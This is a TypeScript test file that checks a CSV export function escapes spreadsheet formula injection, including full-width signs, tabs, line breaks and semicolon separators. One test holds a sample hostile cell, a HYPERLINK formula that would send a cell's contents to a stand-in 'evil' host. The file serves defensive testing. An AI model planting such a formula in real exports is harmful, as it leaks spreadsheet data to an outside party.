import { expect, test } from 'vitest'

import { toCsv } from './csv.ts'

test('a cell that a spreadsheet would run is neutralized, but not a negative number', () => {
  const text = toCsv({
    header: ['a', 'b'],
    rows: [
      ['=1+1', -3],
      ['@x', '-3.5'],
      ['-x', null],
    ],
  })
  expect(text).toBe("\uFEFFa,b\r\n'=1+1,-3\r\n'@x,-3.5\r\n'-x,\r\n")
})

test('quotes, commas, and line breaks survive, and comments come first', () => {
  const text = toCsv({ header: ['name'], rows: [['a "b", c\nd']], comments: ['rows 1-1 of\n2'] })
  expect(text).toBe('\uFEFF# rows 1-1 of 2\r\nname\r\n"a ""b"", c\nd"\r\n')
})

test('a comment is one cell, and starts no formula', () => {
  const hostile = 'Note: flu,=HYPERLINK("http://evil/?"&B9,"open")'
  const text = toCsv({ comments: [hostile, '=1+1', 'all 3 rows'], header: ['a'], rows: [] })
  expect(text).toBe(
    `\uFEFF"# Note: flu,=HYPERLINK(""http://evil/?""&B9,""open"")"\r\n# '=1+1\r\n# all 3 rows\r\na\r\n`,
  )
  // R and Python skip what begins with the sign of a comment
  const plain = toCsv({
    comments: [hostile, 'x; "=1', 'steady,-3'],
    header: ['a'],
    rows: [],
    mark: false,
  })
  expect(plain).toBe(
    `# Note: flu,'=HYPERLINK("http://evil/?"&B9,"open")\r\n# x;' "=1\r\n# steady,-3\r\na\r\n`,
  )
})

test('full-width signs, a tab, a line break, and space before a sign are neutralized', () => {
  const cells = [
    '＝1+1',
    '＋1',
    '－x',
    '＠SUM(A1)',
    '\t1',
    '\n1',
    '  =1',
    '"=1"',
    'a\n=1',
    'a\n\n- b',
    'a;-x',
    '-1e5',
    '+1 (555)',
  ]
  const [, ...lines] = toCsv({
    header: ['a'],
    rows: cells.map((cell) => [cell]),
    mark: false,
  }).split('\r\n')
  expect(lines).toEqual([
    "'＝1+1",
    "'＋1",
    "'－x",
    "'＠SUM(A1)",
    `"'\t1"`,
    `"'\n1"`,
    "'  =1",
    `"'""=1"""`,
    `"a\n'=1"`,
    `"a\n\n'- b"`,
    `"a;'-x"`,
    "'-1e5",
    "'+1 (555)",
    '',
  ])
  expect(toCsv({ header: ['a'], rows: [[-1e-7]], mark: false })).toBe('a\r\n-1e-7\r\n')
})

test('a semicolon ends no cell where spreadsheets separate by it, and hides no formula behind it', () => {
  const text = toCsv({ header: ['note'], rows: [['low; repeat'], ['a;=1+1'], ['3; -2']] })
  expect(text).toBe(`\uFEFFnote\r\n"low; repeat"\r\n"a;'=1+1"\r\n"3; -2"\r\n`)
})
